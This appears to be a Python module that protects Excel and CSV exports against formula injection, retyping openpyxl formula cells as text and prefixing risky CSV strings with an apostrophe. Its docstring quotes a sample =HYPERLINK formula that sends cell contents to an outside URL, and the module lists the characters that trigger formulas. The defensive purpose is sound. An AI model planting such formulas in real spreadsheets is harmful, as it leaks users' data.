"""Spreadsheet cells that hold text as text: a name is never an Excel formula.

A 社区 name from an uploaded boundary file, a facility name from OpenStreetMap or a plan's name may
begin with ``=`` (``=HYPERLINK("http://…"&A2, "点此")`` sends the sheet's cells away when clicked).
openpyxl stores such a string as a formula, and Excel or WPS runs a CSV cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return. In a workbook the cell is typed as text
(nothing changes in what it shows); in a CSV, which has no types, such a text cell gets a leading
``'`` (OWASP's rule), which Excel shows and which tells a reader the cell was guarded.
"""
from __future__ import annotations

from typing import TYPE_CHECKING

import pandas as pd

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_not_formulas(sheet: Worksheet) -> None:
    """Every string cell of ``sheet`` that openpyxl took for a formula stored as text."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f" and isinstance(cell.value, str):
                cell.data_type = "s"


def _guarded(value):
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def csv_text(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with each text cell that a spreadsheet would run (see :data:`FORMULA_STARTS`) prefixed
    with ``'``; numbers (a negative number too) and other cells unchanged."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if values.dtype != object and not isinstance(values.dtype, pd.StringDtype):
            continue
        out[column] = pd.Series([_guarded(v) for v in values], index=values.index, dtype=values.dtype)
    return out
